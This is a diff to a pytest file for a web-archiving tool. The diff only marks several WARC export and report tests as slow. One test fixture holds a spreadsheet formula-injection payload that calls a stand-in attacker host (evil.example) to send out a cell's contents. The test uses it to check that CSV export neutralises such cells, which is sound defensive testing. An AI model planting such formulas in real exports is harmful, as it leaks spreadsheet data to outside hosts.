@@ -53,6 +53,7 @@ def _crawled_twice(tmp_path: Path, db_url: str, server: LocalHTTPServer) -> Watc
     return w
 
 
+@pytest.mark.slow
 def test_warc_export_is_verified_by_warcio_and_holds_the_stored_bytes(db_url: str, tmp_path: Path) -> None:
     with LocalHTTPServer() as server:
         w = _crawled_twice(tmp_path, db_url, server)
@@ -128,6 +129,7 @@ def test_transfer_headers_of_a_decoded_body_are_renamed() -> None:
     assert http.get_header("Set-Cookie") is None and http.get_header("X-Injected") == "a Set-Cookie: b"
 
 
+@pytest.mark.slow
 def test_a_tampered_body_fails_warcio_check(tmp_path: Path) -> None:
     """The payload digest is the stored hash, not one recomputed at export: altered evidence shows."""
     db_url = f"sqlite:///{tmp_path / 'casewatch.db'}"
@@ -143,6 +145,7 @@ def test_a_tampered_body_fails_warcio_check(tmp_path: Path) -> None:
     assert check.returncode == 1 and "payload digest failed" in check.stdout
 
 
+@pytest.mark.slow
 def test_warc_date_range_default_path_and_pruned_versions(db_url: str, tmp_path: Path) -> None:
     with LocalHTTPServer() as server:
         w = _crawled_twice(tmp_path, db_url, server)
@@ -175,6 +178,7 @@ def test_warc_date_range_default_path_and_pruned_versions(db_url: str, tmp_path:
         records[1][1]
 
 
+@pytest.mark.slow
 def test_json_and_csv_reports(db_url: str, tmp_path: Path) -> None:
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Juliaca")'
     with LocalHTTPServer() as server:
@@ -213,6 +217,7 @@ def test_json_and_csv_reports(db_url: str, tmp_path: Path) -> None:
     assert all(not cell.startswith(("=", "+", "-", "@")) for r in table for cell in r.values() if cell)
 
 
+@pytest.mark.slow
 def test_export_user_errors_are_one_line(tmp_path: Path) -> None:
     db_url = f"sqlite:///{tmp_path / 'casewatch.db'}"
     with LocalHTTPServer() as server:
